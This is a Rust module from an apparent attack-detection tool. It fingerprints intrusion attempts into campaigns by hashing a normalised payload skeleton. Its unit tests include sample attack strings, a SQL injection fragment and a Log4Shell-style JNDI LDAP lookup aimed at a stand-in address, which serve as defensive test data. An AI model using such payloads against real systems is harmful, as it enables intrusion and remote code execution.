//! Campaigns: incidents that share a fingerprint, whoever sends them.
//!
//! A fingerprint is made of what an attacker's tool leaves the same from one target to the next: the class, the program
//! that the client says it is, the place and the skeleton of the payload. An incident has the fingerprint of its first
//! attempt. Equal fingerprints are a likeness, not a proof of one hand; reports say so.

use sha2::{Digest, Sha256};

use crate::classify::behaviour::act::TARGETS_PLACE;
use crate::model::attempt::Attempt;
use crate::model::marks::MarkKind;
use crate::tally::{Campaign, CampaignId};

/// Bytes of each text that describes a campaign.
const TEXT_MAX_BYTES: usize = 120;
/// A run of so many letters and digits, digits among them, is taken for something random.
const RANDOM_MIN: usize = 8;

/// The campaign an attempt belongs to, if it begins an incident.
pub fn of(attempt: &Attempt) -> Campaign {
    let evidence = attempt.judgement.evidence.first();
    let agent = attempt.http.as_ref().and_then(|http| http.user_agent.as_deref());
    let mark =
        || [MarkKind::Agent, MarkKind::Hassh, MarkKind::Ja4].iter().find_map(|kind| attempt.marks.of(*kind));
    let client = match (agent, mark()) {
        (Some(said), _) => skeleton(said),
        // Fingerprints are told as they are: a skeleton would leave nothing of them.
        (None, Some(mark)) => mark.to_owned(),
        (None, None) => skeleton(attempt.app_proto),
    };
    // What a scan is after tells it; the numbers of what was found there do not.
    let targets = attempt.judgement.evidence.iter().find(|evidence| &*evidence.place == TARGETS_PLACE);
    let payload = match targets {
        Some(targets) => targets.excerpt.to_string(),
        None => evidence.map_or_else(String::new, |evidence| skeleton(&evidence.excerpt)),
    };
    let rule = evidence.map_or_else(|| "".into(), |evidence| evidence.rule.clone());
    let mut hash = Sha256::new();
    for part in [attempt.judgement.class.id(), &*rule, &client, &payload] {
        hash.update(part.as_bytes());
        hash.update([0]);
    }
    let digest = hash.finalize();
    let word = digest.first_chunk::<8>().map_or(0, |word| u64::from_be_bytes(*word));
    // 0 says "none" in the store, which keeps 63 bits.
    Campaign {
        id: CampaignId((word >> 1).max(1)),
        class: attempt.judgement.class,
        rule,
        client: client.into(),
        payload: payload.into(),
    }
}

/// A text without what changes from one request of a tool to the next: numbers are `0`, what looks random is `*`, letters
/// are small, white space is one blank.
fn skeleton(text: &str) -> String {
    let mut found = String::new();
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        if found.len() >= TEXT_MAX_BYTES {
            break;
        }
        let length = rest.find(|letter: char| !letter.is_ascii_alphanumeric()).unwrap_or(rest.len());
        if length == 0 {
            if first.is_whitespace() || first.is_control() {
                if !found.ends_with(' ') {
                    found.push(' ');
                }
            } else {
                found.push(first);
            }
            rest = rest.get(first.len_utf8()..).unwrap_or_default();
            continue;
        }
        let (run, after) = rest.split_at(length);
        rest = after;
        let digits = run.bytes().filter(u8::is_ascii_digit).count();
        if digits == run.len() {
            found.push('0');
        } else if digits > 0 && run.len() >= RANDOM_MIN {
            found.push('*');
        } else {
            append_word(&mut found, run);
        }
    }
    found.truncate(
        (0..=found.len().min(TEXT_MAX_BYTES)).rev().find(|at| found.is_char_boundary(*at)).unwrap_or(0),
    );
    found
}

/// A word in small letters, each run of digits in it as one `0`.
fn append_word(found: &mut String, run: &str) {
    let mut in_digits = false;
    for letter in run.chars() {
        if !letter.is_ascii_digit() {
            found.push(letter.to_ascii_lowercase());
        } else if !in_digits {
            found.push('0');
        }
        in_digits = letter.is_ascii_digit();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing;

    #[test]
    fn what_a_tool_varies_is_left_out_of_the_skeleton() {
        assert_eq!(skeleton("id=4711 UNION  SELECT 7,8"), "id=0 union select 0,0");
        assert_eq!(skeleton("Mozilla/5.0 (zgrab2/0.1)"), "mozilla/0.0 (zgrab0/0.0)");
        assert_eq!(skeleton("x=${jndi:ldap://192.0.2.7:1389/a8f3c2d19b}"), "x=${jndi:ldap://0.0.0.0:0/*}");
        assert!(skeleton(&"ä".repeat(300)).len() <= TEXT_MAX_BYTES);
    }

    #[test]
    fn the_same_tool_is_the_same_campaign_wherever_it_comes_from() {
        let first = testing::attempt();
        let mut second = testing::attempt();
        second.client = "8.8.4.4:1".parse().unwrap();
        assert_eq!(of(&first).id, of(&second).id);
        if let Some(http) = &mut second.http {
            http.user_agent = Some("another tool".into());
        }
        assert_ne!(of(&first).id, of(&second).id);
    }
}
